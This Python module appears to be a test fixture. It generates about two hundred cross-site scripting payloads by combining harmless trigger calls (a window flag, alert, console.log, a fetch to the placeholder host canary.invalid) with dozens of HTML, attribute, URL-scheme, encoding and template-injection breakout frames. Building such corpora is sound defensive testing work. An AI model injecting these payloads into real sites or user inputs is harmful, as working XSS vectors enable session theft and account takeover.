"""200 ways to smuggle script into text: each sets a trap off when it is taken for markup or code."""

from itertools import product

TRAP = "XSSTRAP"
CANARY = "canary.invalid"
FIRE = "window.__xss=1"

_CALLS = (FIRE, f"alert('{TRAP}')", f"console.log('{TRAP}')", f"fetch('http://{CANARY}/')")
_FRAMES = (
    "<script>{0}</script>",
    '<img src=x onerror="{0}">',
    '<svg onload="{0}">',
    "<svg/onload={0}>",
    '"><img src=x onerror="{0}">',
    '\'><img src=x onerror="{0}">',
    '</textarea><img src=x onerror="{0}">',
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    '<iframe src="javascript:parent.{0}"></iframe>',
    '<a href="javascript:{0}">x</a>',
    '<body onload="{0}">',
    '<input autofocus onfocus="{0}">',
    '<select autofocus onfocus="{0}"></select>',
    '<details open ontoggle="{0}">x</details>',
    '<video><source onerror="{0}"></video>',
    '<audio src=x onerror="{0}">',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    "<math><mtext><script>{0}</script></mtext></math>",
    "<svg><script>{0}</script></svg>",
    '<svg><animate onbegin="{0}" attributeName=x dur=1s></svg>',
    '<svg><foreignObject><img src=x onerror="{0}"></foreignObject></svg>',
    '<marquee onstart="{0}">x</marquee>',
    '<form action="javascript:{0}"><button>x</button></form>',
    '<div style="animation:a" onanimationstart="{0}">x</div>',
    '<template><script>{0}</script></template><img src=x onerror="{0}">',
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<ScRiPt>{0}</ScRiPt>",
    "<<script>{0}//<</script>",
    '<img src=x onerror\x0b="{0}" onerror="{0}">',
    "<img/src=x/onerror={0}>",
    "&lt;img src=x onerror={0}&gt;",
    "&#60;img src=x onerror={0}&#62;",
    "%3Cimg%20src=x%20onerror={0}%3E",
    "\\u003cimg src=x onerror={0}\\u003e",
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "data:text/html,<script>{0}</script>",
    "';{0};//",
    '";{0};//',
    "`-${{{0}}}-`",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
)
_SINGLE = (
    f"<link rel=stylesheet href=http://{CANARY}/>",
    f'<meta http-equiv=refresh content="0;url=http://{CANARY}/">',
    f"<base href=http://{CANARY}/>",
    f"<img src=http://{CANARY}/>",
    f"<style>@import 'http://{CANARY}/';</style>",
    f'<div style="background:url(http://{CANARY}/)">x</div>',
    f"<iframe src=http://{CANARY}/></iframe>",
    f"<script src=http://{CANARY}/></script>",
    f"<svg><use href=http://{CANARY}/#x /></svg>",
    f"<svg><image href=http://{CANARY}/ /></svg>",
    f"<video poster=http://{CANARY}/></video>",
    f"<object data=http://{CANARY}/></object>",
)

PAYLOADS = tuple(frame.format(call) for call, frame in product(_CALLS, _FRAMES)) + _SINGLE
